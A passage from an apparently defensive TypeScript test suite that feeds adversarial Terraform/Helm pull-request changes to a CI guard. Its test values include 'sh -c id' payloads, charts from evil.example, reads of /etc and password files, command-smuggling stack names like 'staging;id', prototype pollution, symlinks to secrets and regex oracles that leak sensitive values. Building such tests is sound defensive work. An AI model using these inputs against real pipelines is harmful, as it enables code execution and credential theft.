        tree.json.provider.kubernetes[0].host = ref('data.google_container_cluster.Main.endpoint');
      }
      head.json.data.google_container_cluster.Main.project = 'evil';
    },
  ],
  [
    'data with another name that a provider refers to',
    'data',
    (head, base) => {
      for (const tree of [head, base]) {
        tree.json.data = {
          google_container_cluster: {
            Main: { name: 'main', project: 'parking-staging' },
            Other: { name: 'other', project: 'parking-staging' },
          },
        };
        tree.json.provider.kubernetes[0].host = ref('data.google_container_cluster.Main.endpoint');
      }
      head.json.data.google_container_cluster.Main = head.json.data.google_container_cluster.Other;
    },
  ],
  [
    'a variable that a provider refers to',
    /variable|var\./,
    (head, base) => {
      for (const tree of [head, base]) {
        tree.json.variable = { host: { default: HOST } };
        tree.json.provider.kubernetes[0].host = ref('var.host');
      }
      head.json.variable.host.default = LISTENER;
    },
  ],
  [
    'another argument of a resource that a provider refers to',
    'google_compute_network',
    (head, base) => {
      for (const tree of [head, base]) tree.json.provider.kubernetes[0].host = `https://${ref('google_compute_network.Network.name')}`;
      head.json.resource.google_compute_network.Network.name = ENDPOINT;
    },
  ],
  [
    'the value of data that a provider refers to',
    'terraform_data',
    (head, base) => {
      for (const tree of [head, base]) {
        tree.json.resource.terraform_data.Host = { input: HOST };
        tree.json.provider.kubernetes[0].host = ref('terraform_data.Host.output');
      }
      head.json.resource.terraform_data.Host.input = LISTENER;
    },
  ],
  [
    'what a referenced argument refers to',
    /google_compute_network|terraform_data/,
    (head, base) => {
      for (const tree of [head, base]) {
        tree.json.resource.terraform_data.Host = { input: ref('google_compute_network.Network.name') };
        tree.json.provider.kubernetes[0].host = ref('terraform_data.Host.output');
      }
      head.json.resource.google_compute_network.Network.name = ENDPOINT;
    },
  ],
  [
    'the project of the cluster behind a local value',
    'local.',
    (head, base) => {
      for (const tree of [head, base]) {
        tree.json.locals = { project: 'parking-staging' };
        tree.json.resource.google_container_cluster.Cluster.project = ref('local.project');
      }
      head.json.locals.project = 'evil';
    },
  ],
]);

const SCRIPT = 'stacks/staging/assets/search/1/script.sh';
const SCRIPT_PATH = `${ref('path.module')}/assets/search/1/script.sh`;

/** Something of the base branch reads or runs an asset: its content is that of the pull request. */
const runScript =
  (use: (tree: Tree) => void, content = '#!/bin/sh\nid\n') =>
  (head: Tree, base: Tree) => {
    for (const tree of [head, base]) {
      use(tree);
      tree.files.set(SCRIPT, '#!/bin/sh\necho {}\n');
    }
    head.files.set(SCRIPT, content);
  };

const assets = group('an unchanged block of the base branch runs, evaluates or follows an asset that the pull request sets', [
  [
    'the program of a provider that is an asset',
    'assets',
    runScript((tree) => (tree.json.provider.kubernetes[0].exec[0].command = SCRIPT_PATH)),
  ],
  [
    'an external program that is an asset',
    'assets',
    runScript((tree) => (tree.json.data = { external: { Ask: { program: ['sh', SCRIPT_PATH] } } })),
  ],
  [
    'an external program by a relative path that is an asset',
    'assets',
    runScript((tree) => (tree.json.data = { external: { Ask: { program: ['sh', './assets/search/1/script.sh'] } } })),
  ],
  [
    'a provisioner that is an asset',
    'assets',
    runScript((tree) => tree.add('terraform_data', 'Run', { provisioner: [{ 'local-exec': { command: `sh ${SCRIPT_PATH}` } }] })),
  ],
  [
    'a template file that is an asset',
    'assets',
    runScript((tree) => {
      tree.body('google_container_node_pool').node_config.metadata = { 'startup-script': ref(`templatefile("${SCRIPT_PATH}", {})`) };
    }, ref(FILE)),
  ],
  [
    'a program after rendering that is an asset',
    'assets',
    runScript((tree) =>
      tree.add('helm_release', 'Other', { chart: 'redis', name: 'a', postrender: { binary_path: SCRIPT_PATH }, repository: KNOWN }),
    ),
  ],
  [
    'dependencies of a chart that is an asset',
    'assets',
    (head, base) => {
      const chart = `${ref('path.module')}/assets/search/1`;
      for (const tree of [head, base]) {
        tree.files.set('stacks/staging/assets/search/1/Chart.yaml', 'apiVersion: v2\nname: search\nversion: 1.0.0\n');
        tree.add('helm_release', 'Other', { chart, dependency_update: true, name: 'a', namespace: 'billing', provider: 'helm' });
      }
      head.files.set(
        'stacks/staging/assets/search/1/Chart.yaml',
        `apiVersion: v2\nname: search\nversion: 1.0.0\ndependencies: [{name: a, version: 1.0.0, repository: "${LISTENER}"}]\n`,
      );
    },
  ],
]);

const KNOWN = 'https://charts.example.com';
const charts = group('Helm reads a file, runs a program or connects to a host during the plan', [
  ...Object.entries<Record<string, unknown>>({
    'a chart of the machine': { chart: '/etc' },
    'a chart of the working directory': { chart: '.' },
    'a chart above': { chart: '../../..' },
    'a chart of the home directory': { chart: '~/charts' },
    'a chart out of the assets': { chart: `${ref('path.module')}/assets/../../../etc` },
    'a chart out of the assets by an expression': { chart: `${ref('path.module')}/assets/${ref('".."')}/${ref('".."')}` },
    'a chart out of the assets by a directive': { chart: `${ref('path.module')}/assets/%{ if true }../../..%{ endif }` },
    'a chart out of the assets by a local value': { chart: `${ref('path.module')}/assets/${ref('local.folder')}` },
    'a chart out of the assets by backslashes': { chart: `${ref('path.module')}/assets\\..\\..` },
    'a chart below the root module, above the assets': { chart: `${ref('path.root')}/..` },
    'a chart of the working directory by an expression': { chart: ref('path.cwd') },
    'a chart that is not in the assets': { chart: `${ref('path.module')}/assets/other/1` },
    'a chart by a file URL': { chart: 'file:///etc' },
    'a chart by a URL': { chart: 'https://evil.example/redis-1.tgz' },
    'a chart of an unknown registry': { chart: 'oci://evil.example/redis' },
    'a chart of an unknown registry in capitals': { chart: 'OCI://evil.example/redis' },
    'a chart of a plugin protocol': { chart: 's3://evil/redis' },
    'an unknown repository': { chart: 'redis', repository: 'https://evil.example' },
    'a registry as a repository': { chart: 'redis', repository: 'oci://evil.example' },
    'a repository that begins as a known one': { chart: 'redis', repository: `${KNOWN}.evil.example` },
    'a repository with a known host as a user': { chart: 'redis', repository: `${KNOWN}@evil.example` },
    'a repository with a folder above': { chart: 'redis', repository: `${KNOWN}/../evil` },
    'a repository after a space': { chart: 'redis', repository: ' https://evil.example' },
    'a repository as an expression': { chart: 'redis', repository: ref('local.repository') },
    'a repository by a file URL': { chart: 'redis', repository: 'file:///etc' },
    'a repository in a list': { chart: 'redis', repository: [KNOWN] },
    'a URL as a chart of a known repository': { chart: 'https://evil.example/redis-1.tgz', repository: KNOWN },
    'a registry as a chart of a known repository': { chart: 'oci://evil.example/redis', repository: KNOWN },
    'a path as a chart of a known repository': { chart: '/etc', repository: KNOWN },
    'a path above as a chart of a known repository': { chart: '../../etc', repository: KNOWN },
    'a path here as a chart of a known repository': { chart: './charts', repository: KNOWN },
    'the home directory as a chart of a known repository': { chart: '~', repository: KNOWN },
    'an expression as a chart of a known repository': { chart: ref('local.chart'), repository: KNOWN },
    'a chart of a known repository that leaves it': { chart: `${KNOWN}/../../evil.tgz` },
    'a chart of a known host as a user': { chart: `${KNOWN}/@evil.example/a.tgz`.replace('/@', '@') },
    'the assets as a chart of a known repository': { chart: 'assets/search/1', repository: KNOWN },
    'a file as a chart of a known repository': { chart: 'cdk.tf.json', repository: KNOWN },
    'an empty repository': { chart: 'redis', repository: '' },
    'no repository': { chart: 'redis' },
  }).map(([name, values]): Row => [name, 'helm_release.Evil', inRelease(values)]),
  ...Object.entries<Record<string, unknown>>({
    postrender: { postrender: { binary_path: 'sh', args: ['-c', 'id'] } },
    'postrender in a list': { postrender: [{ binary_path: 'sh' }] },
    'postrender in a list in a list': { postrender: [[{ binary_path: 'sh' }]] },
    'generated postrender': { dynamic: { postrender: { for_each: [1], content: { binary_path: 'sh' } } } },
    dependency_update: { dependency_update: true },
    'dependency_update as a text': { dependency_update: 'true' },
    'dependency_update as an expression': { dependency_update: ref('true') },
    keyring: { keyring: PASSWD },
    verify: { verify: true },
    repository_key_file: { repository_key_file: PASSWD },
    repository_cert_file: { repository_cert_file: PASSWD },
    repository_ca_file: { repository_ca_file: PASSWD },
    repository_username: {
      repository_username: ref('google_container_cluster.Cluster.master_auth[0].client_key'),
      repository_password: 'a',
    },
    pass_credentials: { pass_credentials: true },
    set_file: { set_file: [{ name: 'a', value: PASSWD }] },
    'an unknown argument': { evil_file: PASSWD },
    'another provider': { provider: 'kubernetes' },
    'a provider alias': { provider: 'helm.evil' },
  }).map(
    ([name, values]): Row => [`${name} of a release`, 'helm_release.Evil', inRelease({ chart: 'redis', repository: KNOWN, ...values })],
  ),
]);

const arguments_ = group('the provider reads a file, contacts a host, or works in a project of the author', [
  ['an object from a file', 'source', addResource('google_storage_bucket_object', { bucket: 'a', name: 'a', source: PASSWD })],
  [
    'an object from a file out of the assets',
    'source',
    addResource('google_storage_bucket_object', { bucket: 'a', name: 'a', source: `${ref('path.module')}/assets/../../../x` }),
  ],
  [
    'an object from a file by a directive',
    'source',
    addResource('google_storage_bucket_object', { bucket: 'a', name: 'a', source: `assets/%{ if true }../..%{ endif }/x` }),
  ],
  ['an object from a file in a list', 'source', addResource('google_storage_bucket_object', { bucket: 'a', name: 'a', source: [PASSWD] })],
  ['an API of Apigee', 'google_apigee_api', addResource('google_apigee_api', { name: 'a', org_id: 'a', config_bundle: PASSWD })],
  [
    'a shared flow of Apigee',
    'google_apigee_sharedflow',
    addResource('google_apigee_sharedflow', { name: 'a', org_id: 'a', config_bundle: PASSWD }),
  ],
  ['a key store of Apigee', 'google_apigee_keystores', addResource('google_apigee_keystores_aliases_pkcs12', { alias: 'a', file: PASSWD })],
  [
    'a certificate of Apigee',
    'google_apigee_keystores',
    addResource('google_apigee_keystores_aliases_key_cert_file', { alias: 'a', cert: PASSWD }),
  ],
  ['a resource of an unknown provider', 'local_file', addResource('local_file', { filename: '/tmp/a', content: 'a' })],
  ['a program as a resource', 'null_resource', addResource('null_resource', { provisioner: LOCAL_EXEC })],
  ['a request as a resource', 'http', addResource('http', { url: LISTENER })],
  ['a type with the name of a provider and a dash', 'google-evil_disk', addResource('google-evil_disk', {})],
  ['a type in capitals', 'Google_compute_disk', addResource('Google_compute_disk', {})],
  ['a type that only begins like a provider', 'googleevil_disk', addResource('googleevil_disk', {})],
  ['a key of a service account', 'google_service_account_key', addResource('google_service_account_key', { service_account_id: 'a' })],
  ['a type of the prototype', 'constructor', addResource('constructor', {})],
  ['a resource with another provider', 'provider', addResource('google_compute_disk', { name: 'a', provider: 'kubernetes' })],
  ['a resource with a provider alias', 'provider', addResource('google_compute_disk', { name: 'a', provider: 'google.evil' })],
  ['a resource with a provider after a space', 'provider', addResource('google_compute_disk', { name: 'a', provider: ' google.evil' })],
  ['a resource with a provider by brackets', 'provider', addResource('google_compute_disk', { name: 'a', provider: 'google["evil"]' })],
  ['a resource with a provider in a list', 'provider', addResource('google_compute_disk', { name: 'a', provider: ['google'] })],
  ['a resource with a provider as an expression', 'provider', addResource('google_compute_disk', { name: 'a', provider: ref('google') })],
  ['a resource of another project', 'project', addResource('google_compute_disk', { name: 'a', project: 'evil', zone: 'europe-west1-b' })],
  [
    'a resource of another project by an expression',
    'project',
    addResource('google_compute_disk', { name: 'a', project: ref('"evil"'), zone: 'europe-west1-b' }),
  ],
  [
    'a resource of another project by a number',
    'project',
    addResource('google_compute_disk', { name: 'a', project: 123456789, zone: 'europe-west1-b' }),
  ],
  [
    'a resource of another project in a list',
    'project',
    addResource('google_compute_disk', { name: 'a', project: ['evil'], zone: 'europe-west1-b' }),
  ],
  [
    'a member of another project',
    'project',
    addResource('google_project_iam_member', { member: 'user:a@evil.example', project: 'evil', role: 'roles/owner' }),
  ],
  ['a type name with a quote', /resource/, addResource('google_compute_disk"', {})],
  ['a resource name with an expression', /resource/, (head) => head.add('google_compute_disk', ref(FILE), {})],
  ['a resource name with a newline', /resource/, (head) => head.add('google_compute_disk', 'a\nb', {})],
  [
    'a member of the prototype',
    '__proto__',
    (head) =>
      head.text((json) =>
        json.replace('"google_compute_disk":{', '"google_compute_disk":{"__proto__":{"provisioner":{"local-exec":{"command":"id"}}},'),
      ),
  ],
  ['a number that loses digits', /size/, (head) => head.text((json) => json.replace(/"size":\d+/, '"size":12345678901234567890'))],
]);

const bytes = group('two readers of the file see different texts', [
  ['a byte order mark', 'cdk.tf.json', (head) => head.text((json) => `\ufeff${json}`)],
  ['UTF-16', 'cdk.tf.json', (head) => head.text((json) => Buffer.from(`\ufeff${json}`, 'utf16le'))],
  ['a NUL byte behind', 'cdk.tf.json', (head) => head.text((json) => `${json}\0`)],
  [
    'bytes that are not UTF-8 in a value',
    'cdk.tf.json',
    (head) => {
      head.body('google_compute_firewall').description = 'MARK';
      head.text((json) =>
        Buffer.concat([
          Buffer.from(json.slice(0, json.indexOf('MARK'))),
          Buffer.from([0xc0, 0xaf]),
          Buffer.from(json.slice(json.indexOf('MARK') + 4)),
        ]),
      );
    },
  ],
  [
    'a lone surrogate',
    /description|cdk\.tf\.json/,
    (head) => {
      head.body('google_compute_firewall').description = 'MARK';
      head.text((json) => json.replace('MARK', '\\ud800'));
    },
  ],
  [
    'a lone surrogate in a key',
    /resource_labels|cdk\.tf\.json/,
    (head) => {
      head.body('google_container_cluster').resource_labels = { MARK: 'a' };
      head.text((json) => json.replace('MARK', '\\udc00'));
    },
  ],
  ['a second document', 'cdk.tf.json', (head) => head.text((json) => `${json}\n{"data":${text(EXTERNAL)}}`)],
  ['a comment', 'cdk.tf.json', (head) => head.text((json) => `/* a */ ${json}`)],
  ['a comma at the end', 'cdk.tf.json', (head) => head.text((json) => `${json.slice(0, -1)},}`)],
  ['single quotes', 'cdk.tf.json', (head) => head.text((json) => `{'data':{},${json.slice(1)}`)],
  ['half of the file', 'cdk.tf.json', (head) => head.text((json) => json.slice(0, json.length / 2))],
  ['an empty file', 'cdk.tf.json', (head) => head.text(() => '')],
  ['a list', 'cdk.tf.json', (head) => head.text((json) => `[${json}]`)],
  ['null', 'cdk.tf.json', (head) => head.text(() => 'null')],
  ['HCL', 'cdk.tf.json', (head) => head.text(() => 'resource "terraform_data" "a" {}')],
  ['a form feed as a space', 'cdk.tf.json', (head) => head.text((json) => `\f${json}`)],
  ['a space of Unicode', 'cdk.tf.json', (head) => head.text((json) => `\u00a0${json}`)],
  ['an infinite number', /size|cdk\.tf\.json/, (head) => head.text((json) => json.replace(/"size":\d+/, '"size":1e999999999'))],
  [
    'deep nesting',
    'cdk.tf.json',
    (head) => head.text((json) => `{"locals":{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}},${json.slice(1)}`),
  ],
  [
    'deep nesting of objects',
    'cdk.tf.json',
    (head) => head.text((json) => `{"locals":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)},${json.slice(1)}`),
  ],
  ['deep nesting of an expression', /description/, describeRule(ref(`${'('.repeat(20_000)}1${')'.repeat(20_000)}`))],
  ['deep nesting of texts', /description/, describeRule(`${'${"'.repeat(5000)}${'"}'.repeat(5000)}`)],
  ['a huge file', 'cdk.tf.json', (head) => head.text((json) => `${' '.repeat(21 * 2 ** 20)}${json}`)],
]);

const NAMES: Readonly<Record<string, string>> = {
  'a newline': 'a\nb',
  'a carriage return': 'a\rb',
  'a command of GitHub Actions': 'a\n::set-output name=a::b',
  'an escape sequence of the terminal': 'a\u001b[2Jb',
  backticks: 'a`id`b',
  'a mark that reverses the direction': 'a\u202etxt.b',
  'an invisible character': 'a\u200bb',
  'a backslash': 'a\\..\\b',
};

const inStack = (file: string): string => `stacks/staging/${file}`;

const files = group('Terraform, a shell or the report reads a file that was not checked', [
  ...[
    'evil.tf',
    'main.tf.json',
    'override.tf',
    'override.tf.json',
    'cdk_override.tf.json',
    'evil.tfvars',
    'terraform.tfvars',
    'terraform.tfvars.json',
    'evil.auto.tfvars',
    'evil.auto.tfvars.json',
    'terraform.tfstate',
    'terraform.tfstate.backup',
    '.terraform/terraform.tfstate',
    '.terraform/providers/registry/a',
    '.terraform/environment',
    '.terraform/modules/modules.json',
    'terraform.tfstate.d/a/terraform.tfstate',
    '.terraformrc',
    '.terraformignore',
    'evil.tftest.hcl',
    'tests/evil.tftest.json',
    'plan',
    'crash.log',
    'CDK.TF.JSON',
    'cdk.tf.json.bak',
    'cdk.tf.json ',
    'backend.tf',
    'Assets/a',
    'metadata.json',
    '.env',
    'evil.tofu',
    'evil.tofu.json',
    'evil.tfcomponent.hcl',
  ].map((name): Row => [`the file ${name} in a stack`, name.split('/')[0]!, addFile(inStack(name))]),
  ...[
    '.terraformrc',
    'terraform.rc',
    '.npmrc',
    'package.json',
    'cdktf.json',
    'cdk.tf.json',
    '.git/config',
    'node_modules/a/index.js',
    '.github/workflows/a.yml',
    'gke-platform.lock',
    'stacks/cdk.tf.json',
    'stacks/other/cdk.tf.json',
    'Manifest.json',
    'MANIFEST.JSON',
  ].map((name): Row => [`the file ${name}`, name.split('/').at(-1)!, addFile(name)]),
  ...Object.entries(NAMES).map(([what, name]): Row => [`a file name with ${what}`, 'stacks/staging', addFile(inStack(name))]),
  ...Object.entries(NAMES).map(([what, name]): Row => [`an asset name with ${what}`, 'assets', addFile(inStack(`assets/${name}`))]),
  ['a symbolic link to a file', 'link', (head) => head.onDisk((folder) => symlinkSync(PASSWD, path.join(folder, inStack('assets/link'))))],
  ['a symbolic link to a folder', 'link', (head) => head.onDisk((folder) => symlinkSync('/', path.join(folder, inStack('assets/link'))))],
  [
    'a symbolic link to nothing',
    'link',
    (head) => head.onDisk((folder) => symlinkSync('/nothing/there', path.join(folder, inStack('assets/link')))),
  ],
  ['a symbolic link to itself', 'link', (head) => head.onDisk((folder) => symlinkSync('link', path.join(folder, inStack('assets/link'))))],
  [
    'a stack that is a symbolic link',
    'stacks',
    (head) => {
      head.onDisk((folder) => symlinkSync('staging', path.join(folder, 'stacks/other')));
    },
  ],
  [
    'assets that are a symbolic link',
    'assets',
    (head) => {
      head.files.clear();
      head.onDisk((folder) => symlinkSync('/etc', path.join(folder, inStack('assets'))));
    },
  ],
  [
    'a configuration that is a symbolic link',
    'cdk.tf.json',
    (head) => {
      const json = text(head.json);
      head.json = undefined;
      head.onDisk((folder) => {
        mkdirSync(path.join(folder, 'stacks/staging'), { recursive: true });
        writeFileSync(path.join(folder, '../elsewhere.json'), json);
        symlinkSync('../../../elsewhere.json', path.join(folder, inStack('cdk.tf.json')));
      });
    },
  ],
  [
    'a manifest that is a symbolic link',
    'manifest.json',
    (head) => {
      const manifest = text(head.manifest);
      head.manifest = undefined;
      head.onDisk((folder) => {
        writeFileSync(path.join(folder, '../elsewhere.json'), manifest);
        symlinkSync('../elsewhere.json', path.join(folder, 'manifest.json'));
      });
    },
  ],
  [
    'a hard link to a file outside',
    'link',
    (head) =>
      head.onDisk((folder) => {
        writeFileSync(path.join(folder, '../secret'), 'secret');
        linkSync(path.join(folder, '../secret'), path.join(folder, inStack('assets/link')));
      }),
  ],
  ['a named pipe', 'pipe', (head) => head.onDisk((folder) => execFileSync('mkfifo', [path.join(folder, inStack('assets/pipe'))]))],
  [
    'a configuration that is a named pipe',
    'cdk.tf.json',
    (head) => {
      head.json = undefined;
      head.onDisk((folder) => {
        mkdirSync(path.join(folder, 'stacks/staging'), { recursive: true });
        execFileSync('mkfifo', [path.join(folder, inStack('cdk.tf.json'))]);
      });
    },
  ],
  [
    'a manifest that is a named pipe',
    'manifest.json',
    (head) => {
      head.manifest = undefined;
      head.onDisk((folder) => execFileSync('mkfifo', [path.join(folder, 'manifest.json')]));
    },
  ],
  [
    'a manifest that is a folder',
    'manifest.json',
    (head) => {
      head.manifest = undefined;
      head.onDisk((folder) => mkdirSync(path.join(folder, 'manifest.json')));
    },
  ],
  [
    'a configuration that is a folder',
    'cdk.tf.json',
    (head) => {
      head.json = undefined;
      head.onDisk((folder) => mkdirSync(path.join(folder, inStack('cdk.tf.json')), { recursive: true }));
    },
  ],
  ['a huge asset', 'big', addFile(inStack('assets/big'), Buffer.alloc(21 * 2 ** 20))],
  [
    'many files',
    'files',
    (head) => {
      head.onDisk((folder) => {
        for (let index = 0; index <= 5_000; index++) writeFileSync(path.join(folder, inStack(`assets/search/file-${index}`)), '');
      });
    },
  ],
  [
    'deep folders',
    /assets|levels|deep/,
    (head) =>
      head.onDisk((folder) => {
        mkdirSync(path.join(folder, inStack(`assets/${'d/'.repeat(100)}`)), { recursive: true });
        writeFileSync(path.join(folder, inStack(`assets/${'d/'.repeat(100)}evil.tf`)), '');
      }),
  ],
]);

const manifest = group('a stack is planned that was not checked, or none is and the old report stays', [
  ['no manifest', 'manifest.json', (head) => (head.manifest = undefined)],
  ['an empty manifest', 'manifest.json', (head) => (head.manifest = {})],
  ['a manifest that is null', 'manifest.json', (head) => (head.manifest = null)],
  ['a manifest that is a list', 'manifest.json', (head) => (head.manifest = [head.manifest])],
  ['a manifest that is not JSON', 'manifest.json', (head) => (head.manifest = 'x')],
  ['no stacks', /manifest\.json|staging/, (head) => (head.manifest = { version: '0.21.0', stacks: {} })],
  ['stacks that are a list', 'manifest.json', (head) => (head.manifest = { stacks: [entry('staging')] })],
  ['stacks that are null', 'manifest.json', (head) => (head.manifest = { stacks: null })],
  ['stacks twice', /stacks/, (head) => (head.manifest = `{"stacks":{},"stacks":{"staging":${text(entry('staging'))}}}`)],
  ['a stack that is null', 'staging', (head) => (head.manifest = { stacks: { staging: null } })],
  ['a stack that is a text', 'staging', (head) => (head.manifest = { stacks: { staging: 'stacks/staging' } })],
  [
    'an artifact without anything',
    /manifest|stack/,
    (head) => {
      head.manifest = { stacks: {} };
      head.json = undefined;
      head.files.clear();
    },
  ],
  [
    'a folder without anything',
    'manifest.json',
    (head) => {
      head.manifest = undefined;
      head.acknowledgements = undefined;
      head.json = undefined;
      head.files.clear();
    },
  ],
  ['a stack without its configuration', 'cdk.tf.json', (head) => (head.json = undefined)],
  [
    'a stack that the base branch does not have',
    'other',
    (head) => {
      head.manifest = { stacks: { staging: entry('staging'), other: entry('other') } };
      head.files.set('stacks/other/cdk.tf.json', text(head.json));
    },
  ],
  [
    'one stack of two',
    'other',
    (_, base) => {
      base.manifest = { stacks: { staging: entry('staging'), other: entry('other') } };
      base.files.set('stacks/other/cdk.tf.json', text(base.json));
    },
  ],
  ['a stack under another name', /staging|other/, (head) => (head.manifest = { stacks: { other: entry('staging') } })],
  [
    'a working directory above',
    'manifest.json',
    (head) => (head.manifest = { stacks: { staging: { ...entry('staging'), workingDirectory: '../..' } } }),
  ],
  [
    'an absolute working directory',
    'manifest.json',
    (head) => (head.manifest = { stacks: { staging: { ...entry('staging'), workingDirectory: '/etc' } } }),
  ],
  [
    'a configuration elsewhere',
    'manifest.json',
    (head) =>
      (head.manifest = { stacks: { staging: { ...entry('staging'), synthesizedStackPath: 'stacks/staging/assets/search/1/Chart.yaml' } } }),
  ],
  [
    'a working directory that is a list',
    'manifest.json',
    (head) => (head.manifest = { stacks: { staging: { ...entry('staging'), workingDirectory: ['stacks/staging'] } } }),
  ],
  ['a stack name with a path', 'manifest.json', (head) => (head.manifest = { stacks: { '../staging': entry('../staging') } })],
  ['a stack name that is an option', 'manifest.json', (head) => (head.manifest = { stacks: { '--help': entry('--help') } })],
  [
    'a stack name with a newline',
    'manifest.json',
    (head) => (head.manifest = { stacks: { 'staging\nproduction': entry('staging\nproduction') } }),
  ],
  ['a stack name with a command', 'manifest.json', (head) => (head.manifest = { stacks: { 'staging;id': entry('staging;id') } })],
  ['a stack name with backticks', 'manifest.json', (head) => (head.manifest = { stacks: { 'a`id`': entry('a`id`') } })],
  [
    'a stack of the prototype',
    '__proto__',
    (head) => (head.manifest = `{"stacks":{"staging":${text(entry('staging'))},"__proto__":${text(entry('__proto__'))}}}`),
  ],
  [
    'a stack named constructor',
    'constructor',
    (head) => (head.manifest = { stacks: { staging: entry('staging'), constructor: entry('constructor') } }),
  ],
  ['an empty configuration', 'staging', (head) => head.text(() => '{}')],
  ['a configuration of comments', 'staging', (head) => head.text(() => '{"//":{}}')],
]);

const ACCEPTED = { rule: 'namespace-destroyed', address: 'kubernetes_namespace_v1.Billing', reason: 'moved', expires: '2099-01-01' };
const acknowledgements = group('a finding of the guard is accepted by something that is not a list of acknowledgements', [
  ...Object.entries<unknown>({
    'a text': '"all"',
    'an object': { rule: '*' },
    null: null,
    'a program': 'module.exports = []',
    'a list of texts': ['namespace-destroyed'],
    'a list of null': [null],
    'a list of lists': [[ACCEPTED]],
    'a rule that is a list': [{ ...ACCEPTED, rule: ['namespace-destroyed'] }],
    'no reason': [{ ...ACCEPTED, reason: undefined }],
    'an empty reason': [{ ...ACCEPTED, reason: '' }],
    'no last day': [{ ...ACCEPTED, expires: undefined }],
    'a last day that is none': [{ ...ACCEPTED, expires: '2099-02-31' }],
    'a last day with a time': [{ ...ACCEPTED, expires: 'never' }],
    'an unknown field': [{ ...ACCEPTED, command: 'id' }],
    'an unknown action': [{ ...ACCEPTED, action: 'everything' }],
    'a rule twice': `[{"rule":"a","rule":"b","address":"a.b","reason":"c","expires":"2099-01-01"}]`,
    'a member of the prototype': `[{"__proto__":{"rule":"a"},"rule":"a","address":"a.b","reason":"c","expires":"2099-01-01"}]`,
    'a byte order mark': '\ufeff[]',
    nothing: '',
  }).map(
    ([name, value]): Row => [
      `acknowledgements with ${name}`,
      'acknowledgement',
      (head) => (head.acknowledgements = value === null ? 'null' : value),
    ],
  ),
  ['acknowledgements as a program', 'acknowledgements.js', addFile('acknowledgements.js', 'module.exports = []')],
]);

/** Valid arguments of a release of the base branch. */
const RELEASE = { chart: 'assets/search/1', name: 'search', provider: 'helm' };

const PASSWORD = 'kubernetes_secret_v1.Secret.data.password';
const secretInBase = (head: Tree, base: Tree): void => {
  for (const tree of [head, base])
    tree.add('kubernetes_secret_v1', 'Secret', { data: { password: ref('var.password') }, metadata: { name: 's' } });
  for (const tree of [head, base]) tree.json.variable = { password: { sensitive: true, type: 'string' } };
};
const marks = group('the mark of a sensitive value is lost, so that the report shows it', [
  ...Object.entries({
    'that can() tests letter by letter': `join("", [for c in split("", "abc"): can(regex(join("", ["^", c]), ${PASSWORD})) ? c : ""])`,
    'that try() branches on': `try(keys({ hit = regex("^h", ${PASSWORD}) }), ["miss"])`,
  }).map(
    ([name, expression]): Row => [
      `a secret ${name}`,
      'output.Leak',
      (head, base) => {
        secretInBase(head, base);
        head.json.output = { ...head.json.output, Leak: { value: ref(expression) } };
      },
    ],
  ),
  [
    'a variable without its mark',
    'variable.password',
    (head, base) => {
      secretInBase(head, base);
      head.json.variable = { password: { type: 'string' } };
      head.json.output = { ...head.json.output, Leak: { value: ref('var.password') } };
    },
  ],
  [
    'a variable of another type',
    'variable.password',
    (head, base) => {
      secretInBase(head, base);
      head.json.variable = { password: { sensitive: true } };
    },
  ],
]);

/** The argument is a text that the base branch has, and its value depends on the block around it. */
const repeated = group('an argument has the expression of the base branch and another value', [
  ...Object.entries<[type: string, body: (item: string) => Json, evil: string]>({
    'a chart': [
      'helm_release',
      (item) => ({ chart: ref('each.value'), for_each: { a: item }, name: ref('each.key'), provider: 'helm' }),
      'http://127.0.0.1:9/evil.tgz',
    ],
    'a repository': [
      'helm_release',
      (item) => ({ chart: 'c', repository: ref('each.value'), for_each: { a: item }, name: ref('each.key'), provider: 'helm' }),
      LISTENER,
    ],
    'a password of a repository': [
      'helm_release',
      (item) => ({ ...RELEASE, repository_password: ref('each.value'), for_each: { a: item }, name: ref('each.key') }),
      ref('terraform_data.Any.output'),
    ],
    'a file': [
      'google_storage_bucket_object',
      (item) => ({ bucket: 'b', for_each: { a: item }, name: 'n', source: ref('each.value') }),
      PASSWD,
    ],
    'a project': ['google_compute_address', (item) => ({ for_each: { a: item }, name: 'n', project: ref('each.value') }), 'victim-project'],
  }).flatMap(([name, [type, body, evil]]): Row[] => [
    [
      `${name} of another iteration`,
      /Repeated|local\.|terraform_data/,
      (head, base) => {
        base.add(type, 'Repeated', body('assets/search/1'));
        head.add(type, 'Repeated', body(evil));
      },
    ],
    [
      `${name} of a new resource with its own iteration`,
      /Further|local\.|terraform_data/,
      (head, base) => {
        for (const tree of [head, base]) tree.add(type, 'Repeated', body('assets/search/1'));
        head.add(type, 'Further', body(evil));
      },
    ],
  ]),
  [
    'a project of data in an iteration',
    'google_compute_network.Victim',
    (head, base) => {
      for (const tree of [head, base])
        tree.add('google_compute_address', 'Repeated', { for_each: ['parking-staging'], name: 'n', project: ref('each.value') });
      head.json.data = { google_compute_network: { Victim: { for_each: ['victim'], name: 'n', project: ref('each.value') } } };
    },
  ],
  [
    'an iterator with the name of a resource type',
    'dynamic',
    (head) => {
      head.add('google_compute_instance', 'Evil', {
        dynamic: {
          network_interface: {
            content: { subnetwork: 's', subnetwork_project: ref('google_compute_network.value.project') },
            for_each: [{ project: 'victim' }],
            iterator: 'google_compute_network',
          },
        },
        name: 'evil',
      });
    },
  ],
]);

const indirectAssets = group('a program of the base branch is replaced by the way of another value', [
  ...Object.entries<(tree: Tree) => string>({
    'a variable': (tree) => {
      tree.json.variable = { plugin: { default: 'assets/search/plugin.sh', type: 'string' } };
      return 'var.plugin';
    },
    'a resource': (tree) => {
      tree.add('terraform_data', 'Plugin', { input: 'assets/search/plugin.sh' });
      return 'terraform_data.Plugin.input';
    },
    'a resource that takes it from a local': (tree) => {
      tree.json.locals = { plugin: 'assets/search/plugin.sh' };
      tree.add('terraform_data', 'Plugin', { input: ref('local.plugin') });
      return 'terraform_data.Plugin.output';
    },
  }).map(
    ([name, define]): Row => [
      `a program that comes through ${name}`,
      'provider',
      (head, base) => {
        for (const tree of [head, base]) {
          const plugin = ref(define(tree));
          tree.json.provider.kubernetes[0].exec = [{ api_version: EXEC.api_version, args: [plugin], command: 'sh' }];
          tree.files.set('stacks/staging/assets/search/plugin.sh', tree === head ? 'id' : 'true');
        }
      },
    ],
  ),
]);

const links = group('planning reads another project', [
  ...Object.entries({
    'another host': 'https://x/a/b/c/victim-project/d/europe-west1/e/secret-subnet',
    'a list of parts': ref(
      'join("/", ["https://www.googleapis.com/compute/v1", "projects", "victim", "regions", "r", "subnetworks", "s"])',
    ),
